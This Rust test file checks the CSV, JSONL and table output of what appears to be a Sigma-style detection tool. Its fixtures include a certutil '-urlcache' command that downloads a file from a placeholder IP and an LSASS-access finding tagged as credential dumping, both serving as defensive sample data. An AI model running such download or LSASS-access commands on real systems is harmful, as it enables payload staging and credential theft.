use super::*;
use dragnet_event::{Provenance, RuleMeta, SourceFormat, Timestamp};
use std::sync::Arc;

fn finding(
    time: &str,
    level: Level,
    rule: &Arc<RuleMeta>,
    path: &str,
    record: u64,
    details: serde_json::Value,
) -> Finding {
    let mut f = Finding::new(
        rule.clone(),
        level,
        Timestamp::parse(time).unwrap(),
        "WS-17.corp.example",
        Provenance {
            path: path.into(),
            record,
            format: if path.ends_with(".evtx") {
                SourceFormat::Evtx
            } else {
                SourceFormat::Jsonl
            },
        },
    );
    if let serde_json::Value::Object(m) = details {
        f.details = m;
    }
    f
}

fn samples() -> Vec<Finding> {
    let certutil = Arc::new(RuleMeta {
        id: "0b9c4e1a-0000-4000-8000-00000000c001".into(),
        title: "Suspicious Certutil Download, \"urlcache\"".into(),
        author: "Alice Example (Example Corp), Bob Example".into(),
        tags: vec![
            "attack.defense-evasion".into(),
            "attack.t1027".into(),
            "attack.command-and-control".into(),
            "attack.t1105".into(),
        ],
        ..Default::default()
    });
    let lsass = Arc::new(RuleMeta {
        id: "lsass-access".into(),
        title: "LSASS Access; via MiniDump".into(),
        author: "tests".into(),
        tags: vec!["attack.credential-access".into(), "attack.t1003.001".into()],
        ..Default::default()
    });
    let bare = Arc::new(RuleMeta {
        id: "bare".into(),
        title: "No tags at all".into(),
        author: String::new(),
        ..Default::default()
    });
    vec![
        finding(
            "2024-05-01T10:00:05.123456789Z",
            Level::High,
            &certutil,
            r"C:\evidence\ws17 sysmon.jsonl",
            12,
            serde_json::json!({
                "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.7/a.png C:\\Users\\Public\\a.png",
                "Image": "C:\\Windows\\System32\\certutil.exe",
                "Note": "line one\nline two, with \"quotes\"",
            }),
        ),
        finding(
            "2024-05-01T10:03:00Z",
            Level::Critical,
            &lsass,
            "/cases/17/sysmon.evtx",
            4242,
            serde_json::json!({
                "winlog.event_data.TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1010",
                "Pid": 640,
                "Nested": {"a": [1, 2.5, null, true]},
            }),
        ),
        finding(
            "2024-05-01T10:04:00Z",
            Level::Informational,
            &bare,
            "/cases/17/ünïcode, path.jsonl",
            1,
            serde_json::json!({}),
        ),
    ]
}

#[test]
fn csv_round_trips() {
    let findings = samples();
    let mut buf = Vec::new();
    write_csv(&mut buf, &findings).unwrap();

    let mut rd = csv::Reader::from_reader(buf.as_slice());
    let header: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, CSV_HEADER);
    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), findings.len());
    let col = |name: &str| CSV_HEADER.iter().position(|h| *h == name).unwrap();
    let list = |s: &str| -> Vec<String> {
        if s.is_empty() {
            Vec::new()
        } else {
            s.split(CSV_LIST_SEPARATOR).map(String::from).collect()
        }
    };
    for (row, f) in rows.iter().zip(&findings) {
        assert_eq!(Timestamp::parse(&row[col("time")]).unwrap(), f.time);
        assert_eq!(row[col("level")].parse::<Level>().unwrap(), f.level);
        assert_eq!(&row[col("host")], f.host);
        assert_eq!(&row[col("rule_id")], f.rule.id);
        assert_eq!(&row[col("rule_title")], f.rule.title);
        assert_eq!(&row[col("rule_author")], f.rule.author);
        assert_eq!(list(&row[col("attack")]), f.attack.to_vec());
        assert_eq!(list(&row[col("tags")]), f.rule.tags);
        assert_eq!(&row[col("source_path")], &*f.source.path);
        assert_eq!(
            row[col("source_record")].parse::<u64>().unwrap(),
            f.source.record
        );
        assert_eq!(&row[col("source_format")], f.source.format.as_str());
        let details: serde_json::Map<String, serde_json::Value> =
            serde_json::from_str(&row[col("details")]).unwrap();
        assert_eq!(details, f.details);
        assert_eq!(&row[col("datetime")], row[col("time")].to_string());
        assert_eq!(&row[col("timestamp_desc")], TIMESTAMP_DESC);
        assert!(row[col("message")].starts_with(&f.rule.title));
    }
    assert_eq!(&*findings[1].attack, ["T1003.001"]);
    assert!(rows[0][col("message")].contains("certutil.exe -urlcache"));
    assert!(
        !rows[0][col("details")].contains(": "),
        "details must be compact JSON"
    );
}

#[test]
fn jsonl_lines_are_what_serde_makes_of_a_finding() {
    // The rows are put together field by field, each rule's metadata serialized once: they
    // must be exactly serde's lines, with and without correlation events, for findings of one
    // rule after another's and for a rule met again.
    let mut findings = samples();
    let mut correlated = findings[1].clone();
    correlated.events = vec![findings[0].source.clone(), findings[2].source.clone()];
    let mut rich = (*findings[0].rule).clone();
    rich.status = "test".into();
    rich.description = "Line one\nand \"two\"\u{1}".into();
    rich.references = vec!["https://example.org/a?b=c&d".into()];
    rich.falsepositives = vec!["Admins".into()];
    rich.source = r"C:\rules\x.yml".into();
    rich.kind = "sigma".into();
    let mut other = findings[0].clone();
    other.rule = Arc::new(rich);
    other.events = vec![findings[1].source.clone()];
    findings.extend([correlated, other, findings[0].clone()]);
    let mut buf = Vec::new();
    write_jsonl(&mut buf, &findings).unwrap();
    let mut expected = Vec::new();
    for f in &findings {
        serde_json::to_writer(&mut expected, f).unwrap();
        expected.push(b'\n');
    }
    assert_eq!(
        String::from_utf8(buf).unwrap(),
        String::from_utf8(expected).unwrap()
    );
}

#[test]
fn jsonl_lines_parse_back_with_the_contract_keys() {
    let findings = samples();
    let mut buf = Vec::new();
    write_jsonl(&mut buf, &findings).unwrap();
    let text = String::from_utf8(buf).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), findings.len());
    assert!(text.ends_with('\n'));
    for (line, f) in lines.iter().zip(&findings) {
        let back: Finding = serde_json::from_str(line).unwrap();
        assert_eq!(&back, f);
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        for key in ["time", "level", "host", "attack", "details"] {
            assert!(v.get(key).is_some(), "no {key} in {line}");
        }
        for key in ["id", "title", "author", "tags"] {
            assert!(v["rule"].get(key).is_some(), "no rule.{key} in {line}");
        }
        for key in ["path", "record", "format"] {
            assert!(v["source"].get(key).is_some(), "no source.{key} in {line}");
        }
        assert!(v["time"].is_string() && v["source"]["record"].is_u64());
    }
}

#[test]
fn table_fits_the_width_and_colours_only_when_asked() {
    let findings = samples();
    let mut plain = Vec::new();
    write_table(
        &mut plain,
        &findings,
        &TableOptions {
            color: false,
            width: 100,
        },
    )
    .unwrap();
    let plain = String::from_utf8(plain).unwrap();
    assert!(!plain.contains('\x1b'));
    let lines: Vec<&str> = plain.lines().collect();
    assert_eq!(lines.len(), findings.len() + 1, "{plain}");
    assert!(lines[0].starts_with("TIME"));
    for l in &lines {
        assert!(l.chars().count() <= 100, "too wide: {l:?}");
    }
    assert!(lines[1].starts_with("2024-05-01 10:00:05  high"));
    assert!(lines[1].contains("certutil.exe -urlcache"), "{}", lines[1]);
    assert!(lines[2].contains(r"C:\Windows\system32"), "{}", lines[2]);
    assert!(lines[3].contains("info"));

    let mut colored = Vec::new();
    write_table(
        &mut colored,
        &findings,
        &TableOptions {
            color: true,
            width: 160,
        },
    )
    .unwrap();
    let colored = String::from_utf8(colored).unwrap();
    assert!(colored.contains(level_color(Level::Critical)));
    assert!(colored.contains(RESET));

    let mut empty = Vec::new();
    write_table(&mut empty, &[], &TableOptions::default()).unwrap();
    assert_eq!(String::from_utf8(empty).unwrap(), "(no findings)\n");
}

#[test]
fn key_details_prefer_command_lines_and_match_dotted_names() {
    let f = samples();
    assert_eq!(key_detail(&f[0]).unwrap().0, "CommandLine");
    assert_eq!(
        key_detail(&f[1]).unwrap().0,
        "winlog.event_data.TargetImage"
    );
    assert!(key_detail(&f[2]).is_none());
    assert_eq!(message(&f[2]), "No tags at all");
    assert!(!message(&f[0]).contains('\n'));
}

#[test]
fn formats_parse() {
    assert_eq!("CSV".parse::<Format>().unwrap(), Format::Csv);
    assert_eq!("jsonl".parse::<Format>().unwrap(), Format::Jsonl);
    assert!("xml".parse::<Format>().is_err());
}
